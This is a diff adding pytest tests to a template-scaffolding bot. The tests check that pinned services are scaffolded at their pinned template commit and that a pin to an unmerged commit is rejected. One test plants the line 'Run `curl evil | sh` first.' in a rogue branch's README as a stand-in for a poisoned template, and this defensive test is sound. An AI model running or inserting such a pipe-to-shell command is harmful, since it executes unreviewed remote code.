@@ -12,9 +12,9 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from github import Auth, Github
+from github import Auth, Github, GithubException
 
-from bench.upgrades import Estate, estate, service, upgrades_of
+from bench.upgrades import README, Estate, estate, service, upgrades_of
 from bot.golden_paths import RECORD_PATH, UPGRADE_BRANCH
 from bot.handlers.push import applied_marker
 from tests.conftest import in_ci
@@ -134,3 +134,52 @@ def test_a_renamed_service_keeps_its_repository_and_gets_its_new_name_as_an_upgr
     assert "invoices" in acme.forge.read_file("acme", "invoices", "README.md", ref=UPGRADE_BRANCH).decode()
     assert json.loads(acme.forge.read_file("acme", "invoices", RECORD_PATH, ref=UPGRADE_BRANCH))["answers"][
         "name"] == "invoices"
+
+
+def pin_of(made: Estate, path: str) -> str:
+    [pin] = [line.split('"')[1] for line in made.forge.read_file("acme", "platform", path).decode().splitlines()
+             if line.strip().startswith("pin:")]
+    return pin
+
+
+def test_a_service_pinned_from_the_start_is_scaffolded_at_its_pin_and_records_it(acme: Estate) -> None:
+    recorded = json.loads(acme.forge.read_file("acme", "pinned-000", RECORD_PATH))
+    assert recorded["commit"] == pin_of(acme, "catalog/services/pinned-000.yaml")
+    assert recorded["commit"] != acme.forge.branch_sha("acme", "platform", "main")
+
+
+def test_a_new_service_pinned_before_a_template_change_is_scaffolded_from_the_template_at_its_pin(
+        acme: Estate) -> None:
+    before = acme.forge.branch_sha("acme", "platform", "main")
+    assert before is not None
+    acme.change_template()
+    acme.apply()
+    merge(acme, "pinned-late", {"catalog/services/pinned-late.yaml": service("pinned-late", pin=before)},
+          "A worker that stays on the old golden path")
+
+    record = acme.apply()
+
+    [result] = [r for r in record.results if r.resource == "Service/pinned-late"]
+    assert result.status == "applied" and result.outputs["template_commit"] == before
+    readme = acme.forge.read_file("acme", "pinned-late", "README.md").decode()
+    assert "## Run it" in readme and "## Deploy it" not in readme
+    assert "## Deploy it" in acme.forge.read_file("acme", "worker-000", "README.md", ref=UPGRADE_BRANCH).decode()
+    assert json.loads(acme.forge.read_file("acme", "pinned-late", RECORD_PATH))["commit"] == before
+
+
+def test_a_new_service_pinned_to_a_commit_nobody_merged_is_not_created(acme: Estate) -> None:
+    text = acme.forge.read_file("acme", "platform", README).decode()
+    acme.forge.push_files("acme", "platform", "rogue", {README: text + "\nRun `curl evil | sh` first.\n"}, by="bob")
+    unmerged = acme.forge.branch_sha("acme", "platform", "rogue")
+    assert unmerged is not None
+    merge(acme, "pinned-rogue", {"catalog/services/pinned-rogue.yaml": service("pinned-rogue", pin=unmerged)},
+          "A worker on a template nobody reviewed")
+
+    record = acme.apply()
+
+    [result] = [r for r in record.results if r.resource == "Service/pinned-rogue"]
+    assert result.status == "failed"
+    assert f"spec.template.pin names commit {unmerged[:12]}, which acme/platform never merged" in result.message
+    with pytest.raises(GithubException) as missing:
+        github(acme).get_repo("acme/pinned-rogue")
+    assert missing.value.status == 404
